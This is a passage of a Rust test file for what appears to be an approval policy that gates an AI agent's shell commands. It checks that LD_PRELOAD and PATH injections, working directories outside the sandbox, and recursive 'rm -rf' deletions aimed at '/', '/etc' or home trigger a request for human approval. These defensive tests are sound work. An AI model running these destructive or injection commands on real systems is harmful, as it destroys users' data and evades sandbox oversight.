            (d.action, d.reason.level, d.reason.rule.as_deref()),
            (
                Action::Ask,
                Level::GlobalAudit,
                Some("blacklist/dangerous-env")
            ),
            "{env}: {d:?}"
        );
    }
    for cmd in ["LD_PRELOAD=/tmp/x.so ls", "env PATH=/tmp/evil git status"] {
        let d = run_args(ApprovalMode::Manual, json!({ "command": cmd }), &ctx);
        assert_eq!(d.reason.level, Level::GlobalAudit, "{cmd}: {d:?}");
    }
}

#[test]
fn a_working_directory_argument_outside_the_sandbox_stops_approval() {
    let sb = sandbox();
    let ctx = ToolContext::new().with_cwd(&sb.work);
    for cwd in ["/", "..", sb.outside.to_str().unwrap(), "~"] {
        for key in ["cwd", "workdir", "workingDirectory", "directory"] {
            let d = run_args(
                ApprovalMode::Manual,
                json!({"command": "git status", key: cwd}),
                &ctx,
            );
            assert_eq!(d.action, Action::Ask, "{key}={cwd}: {d:?}");
        }
    }
    for cwd in [".", "src", sb.work.to_str().unwrap()] {
        let d = run_args(
            ApprovalMode::Manual,
            json!({"command": "git status", "cwd": cwd}),
            &ctx,
        );
        assert_eq!(d.action, Action::Run, "{cwd}: {d:?}");
    }
    // Without a host working directory, only `.` is known to stay put.
    let none = ToolContext::new();
    let d = run_args(
        ApprovalMode::Manual,
        json!({"command": "git status", "cwd": "/"}),
        &none,
    );
    assert_eq!(d.action, Action::Ask, "{d:?}");
}

#[test]
fn recursive_removal_of_relative_targets_is_judged_in_its_directory() {
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let sb = sandbox();
    let ctx = ToolContext::new().with_cwd(&sb.work);
    let cases: &[(Value, bool)] = &[
        (json!({"command": "rm -rf *", "cwd": "/"}), true),
        (json!({"command": "rm -rf .", "cwd": "/"}), true),
        (json!({"command": "rm -rf ./*", "cwd": "/etc"}), true),
        (json!({"command": "rm -rf .*", "cwd": home}), true),
        (json!({"command": "rm -rf *", "workdir": "~"}), true),
        (json!({"command": "cd / && rm -rf *"}), true),
        (json!({"command": "cd /; rm -rf ."}), true),
        (json!({"command": "cd && rm -rf *"}), true),
        (json!({"command": "cd ~; rm -rf ./*"}), true),
        (json!({"command": "pushd /usr && rm -rf *"}), true),
        (json!({"command": "cd /etc/ssh && rm -rf .."}), true),
        (json!({"command": "cd $X && rm -rf ."}), true),
        (json!({"command": "rm -rf *"}), false),
        (json!({"command": "cd src && rm -rf *"}), false),
        (json!({"command": "rm -rf *", "cwd": "src"}), false),
    ];
    for (args, always) in cases {
        let d = run_args(ApprovalMode::AutoRun, args.clone(), &ctx);
        if *always {
            assert_eq!(
                (d.action, d.policy),
                (Action::Ask, InterventionPolicy::Always),
                "{args}: {d:?}"
            );
        } else {
            assert_ne!(d.policy, InterventionPolicy::Always, "{args}: {d:?}");
        }
    }
}

#[test]
fn an_api_the_manifest_does_not_define_is_unknown() {
    let engine = engine(ApprovalMode::Manual);
    let manifest = local_system();
    let ctx = ToolContext::new();
    for api in ["runcommand", "RunCommand", "runCommand ", "nope"] {
        let args = json!({"command": "git status"});
        let d = decide(&engine, &manifest, api, &args, &ctx);
        assert_eq!(
            (d.action, d.reason.level),
            (Action::Ask, Level::UnknownTool),
            "{api}: {d:?}"
        );
    }
}
